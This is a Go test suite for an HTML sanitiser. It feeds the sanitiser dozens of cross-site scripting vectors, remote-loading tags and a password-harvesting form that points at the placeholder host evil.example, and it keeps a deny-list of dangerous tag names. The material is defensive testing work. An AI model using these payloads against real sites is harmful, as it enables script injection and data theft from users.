package ports

import (
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"

	"plaza/domain/markup"
)

// Sanitiser is the suite of markup.Sanitiser.
func Sanitiser(t *testing.T, fresh func(t *testing.T) markup.Sanitiser) {
	removed := map[string][]string{
		"active content": {
			`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<p onclick="alert(1)">`, `<a href="javascript:alert(1)">`,
			`<a href="jAvAsCrIpT&colon;alert(1)">`, `<a href="&#106;avascript:alert(1)">`, `<svg onload=alert(1)>`, `<form action=//evil.example>`,
			`<a href="data:text/html,<script>alert(1)</script>">`, `<input autofocus onfocus=alert(1)>`, `<body onload=alert(1)>`,
			`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
			`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<b/onclick=alert(1)>x</b>`, `<p "onclick=alert(1) x="`, "<a href=\"java\tscript:alert(1)\">x</a>",
			`<a href="vbscript:x">x</a>`, `<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>`, `<applet code="x"></applet>`,
			`<textarea><script>alert(1)</script></textarea>`, `<template><script>alert(1)</script></template>`, `<select><option>x</option></select>`,
			`<form action="//evil.example"><input name=password><button formaction="//evil.example">x</button></form>`,
			`<!--[if IE]><script>alert(1)</script><![endif]-->`, `<!doctype html><html><body onload=alert(1)>x</body></html>`,
			`<scr<script>ipt>alert(1)</script>`, `<video onerror=alert(1)><source></video>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
		},
		"frames": {
			`<iframe src="https://evil.example"></iframe>`, `<frameset><frame src="//evil.example"></frameset>`,
			`<object data="//evil.example"></object>`, `<embed src="//evil.example">`, `<portal src="//evil.example">`,
		},
		"requests to other servers": {
			`<img src="https://evil.example/pixel.gif">`, `<img src="//evil.example/pixel.gif">`, `<link rel=stylesheet href="//evil.example">`,
			`<video src="//evil.example" poster="//evil.example">`, `<audio src="//evil.example">`, `<a ping="//evil.example">`,
			`<p style="background:url(//evil.example)">`, `<style>@import "//evil.example"</style>`, `<base href="//evil.example">`,
			`<img srcset="//evil.example 1x">`, `<table background="//evil.example">`,
			`<a href="//evil.example/">x</a>`, `<a href="https:evil.example">x</a>`, `<a href="\\evil.example">x</a>`, `<a href="/api/evil/">x</a>`,
			`<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<audio src="//evil.example/x.mp3" autoplay></audio>`, `<video poster="//evil.example/x.png"></video>`,
		},
		"hidden content": {
			`<p style="position:fixed">`, `<p class="overlay">`, `<p id="login">`, `<a name="top">`, `<p hidden>`, `<p data-id="1">`, `<!-- secret -->`,
		},
	}
	for what, markups := range removed {
		t.Run("it removes "+what, func(t *testing.T) {
			s := fresh(t)
			for _, raw := range markups {
				clean := strings.ToLower(string(s.Sanitise("before" + raw)))
				assert.True(t, strings.HasPrefix(clean, "before"), "%q from %q", clean, raw)
				tags := onlyTags(clean)
				for _, bad := range []string{
					"script", "onerror", "onclick", "onload", "onfocus", "javascript", "data:", "evil", "style", "class", "hidden",
					"id=", "name=", "secret", "<svg", "<math", "<form", "<input", "<iframe", "<frame", "<object", "<embed", "<meta",
					"vbscript", "formaction", "xlink", "<applet", "<textarea", "<template", "<select", "<option", "<button", "<!", "<html", "<body",
					"<table",
					"<base", "<link", "<audio", "<video", "<noscript", "href", "src",
				} {
					assert.NotContains(t, tags, bad, "%q from %q", clean, raw)
				}
			}
		})
	}

	t.Run("what is harmless is returned", func(t *testing.T) {
		s := fresh(t)
		for _, harmless := range []string{
			"", "text", "<p>one<br/>two</p>", "<p>a <b>b</b> <strong>c</strong> <i>d</i> <em>e</em> <u>f</u> <s>g</s></p>",
			"<ul><li>one</li><li>two</li></ul>", "<ol><li>one</li></ol>", "<blockquote><p>said</p></blockquote>",
			"<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>", "<pre><code>a &lt; b</code></pre><hr/>", "西湖 🌊 &amp; more",
		} {
			assert.Equal(t, harmless, string(s.Sanitise(harmless)))
		}
	})

	t.Run("the text of what it takes away stays where it was meant to be read", func(t *testing.T) {
		s := fresh(t)
		for raw, text := range map[string]string{
			`<div>one</div> <span class="x">two</span>`:            "one two",
			`<a href="javascript:alert(1)">click</a> here`:         "click here",
			`<table><tr><td>cell</td></tr></table>`:                "cell",
			`<font color="red">red</font><marquee>moves</marquee>`: "redmoves",
			`<unknown>word</unknown>`:                              "word",
			`<button>press</button>`:                               "press",
			`1 &lt; 2 &amp;&amp; 3 > 2`:                            "1 < 2 && 3 > 2",
			`&lt;script&gt;is shown&lt;/script&gt;`:                "<script>is shown</script>",
		} {
			assert.Equal(t, text, s.Sanitise(raw).Text(), "%q", raw)
		}
		for _, unread := range []string{`<script>let unread</script>`, `<style>.unread{}</style>`, `<!-- unread -->`} {
			assert.Equal(t, "read", s.Sanitise(unread+"read").Text())
		}
	})

	t.Run("it is safe to call from many goroutines at once", func(t *testing.T) {
		s := fresh(t)
		const raw = `<p onclick=x>text</p><a href="https://plaza.example/">link</a><script>x</script>`
		want := s.Sanitise(raw)
		var all sync.WaitGroup
		for range 16 {
			all.Go(func() {
				for range 50 {
					assert.Equal(t, want, s.Sanitise(raw))
				}
			})
		}
		all.Wait()
	})
}

// onlyTags is what stands between < and >.
func onlyTags(html string) string {
	var b strings.Builder
	for i, part := range strings.Split(html, "<") {
		if tag, _, _ := strings.Cut(part, ">"); i > 0 {
			b.WriteString("<" + tag + ">")
		}
	}
	return b.String()
}
